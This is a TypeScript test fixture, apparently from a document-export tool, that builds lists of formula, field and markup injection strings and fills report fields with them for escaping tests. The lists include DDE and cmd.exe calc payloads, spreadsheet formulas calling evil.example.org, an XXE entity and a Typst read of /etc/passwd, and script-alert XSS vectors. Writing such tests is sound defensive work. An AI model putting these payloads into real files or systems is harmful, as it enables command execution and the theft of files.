import { cleaned } from "../../report/text";
import type { Report } from "../../report/block";

// Strings that are meant to become something else than words, and reports that say nothing else.

const across = (starts: readonly string[], ends: readonly string[]): string[] =>
  starts.flatMap((start) => ends.map((end) => `${start}${end}`));

/** What office programs may take for a formula, a field or a command. */
export const FORMULAS: string[] = across(
  [
    "=",
    "+",
    "-",
    "@",
    " =",
    "'=",
    "=+",
    "=-",
    "==",
    "=@",
    "%=",
    "|=",
    ";=",
    ",=",
    '"=',
    "(=",
    "{=",
    "{ = ",
    "\\=",
    "\n=",
  ],
  [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example.org","x")',
    'WEBSERVICE("http://evil.example.org")',
    'IMPORTXML("http://evil.example.org","//a")',
    'DDE("cmd";"/C calc";"x")',
    "INCLUDETEXT C:/secret.txt }",
    "TOC \\o 1-3 }",
    "DDEAUTO c:\\windows\\system32\\cmd.exe }",
    'INCLUDEPICTURE "http://evil.example.org/a.png" \\d }',
    "MACROBUTTON x }",
    "PAGE }",
    'LINK Excel.Sheet.8 "a" "b" \\a }',
    "QUOTE 65 }",
    "A1",
    "TRUE()",
    "RAND()",
    'T("x")&CHAR(65)',
    "[1]x!A1",
    "10*10",
    "-2",
    "@SUM(1)",
    "1/0",
    'EXEC("calc")',
  ],
);

/** What a format of ours may take for its own marks. */
export const MARKUP: string[] = across(
  ["", "]]>", '">', "'>", "-->", "\n", "</p>", "</w:t></w:r></w:p>", "</text:p>", '"]'],
  [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "<w:instrText> INCLUDETEXT </w:instrText>",
    "<text:p>x</text:p>",
    "<office:scripts/>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?xml version='1.0'?>",
    "<!--",
    "<![CDATA[x",
    "&lt;b&gt; &amp; &#60;",
    "<style>*{display:none}</style>",
    '#panic("x") #read("/etc/passwd")',
    "$ x^2 $ *x* _y_ `z` @nobody <label>",
    '#import "look.typ": *',
    "\\u{41} // x /* y */ ] } )",
    "**x** [y](javascript:alert(1)) ![z](http://evil.example.org)",
    "{{x}} ${x} <%= x %>",
    "<svg onload=alert(1)/>",
  ],
);

/** Words of the same shape, which can be nothing but words. */
export const harmless = (text: string): string => text.replaceAll(/[^\n ]/g, "x");

/** Every text of a report replaced; what is an address, a name of a kind, or a drawing stays. */
export const filled = (report: Report, text: string): Report =>
  cleaned(replaced(report, text) as Report);

const KEPT = new Set(
  "kind tone language direction on layout svg url address to ref level".split(" "),
);

function replaced(value: unknown, text: string, key = ""): unknown {
  if (typeof value === "string")
    return KEPT.has(key) || (key === "notes" && /^(foot|end)$/.test(value)) ? value : text;
  if (Array.isArray(value))
    return value.map((one) => replaced(one, text, key === "notes" ? "" : key));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, replaced(one, text, name)]),
  );
}
